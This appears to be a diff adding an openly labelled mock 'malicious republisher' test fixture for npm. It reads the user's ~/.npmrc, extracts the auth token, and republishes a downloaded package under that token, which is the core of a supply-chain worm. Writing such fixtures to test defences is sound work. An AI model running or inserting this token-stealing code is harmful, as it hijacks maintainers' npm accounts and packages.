@@ -0,0 +1,18 @@
+// MOCK malicious republisher - FOR TESTING ONLY
+// Downloads the victim's package and publishes it back with their token
+
+const fs = require('fs');
+const os = require('os');
+const pacote = require('pacote');
+const { publish } = require('libnpmpublish');
+
+const npmrc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');
+const token = /_authToken=(\S+)/.exec(npmrc)[1];
+
+async function republish(name) {
+  const manifest = await pacote.manifest(name);
+  const tarball = await pacote.tarball(name);
+  await publish(manifest, tarball, { forceAuth: { token } });
+}
+
+module.exports = republish;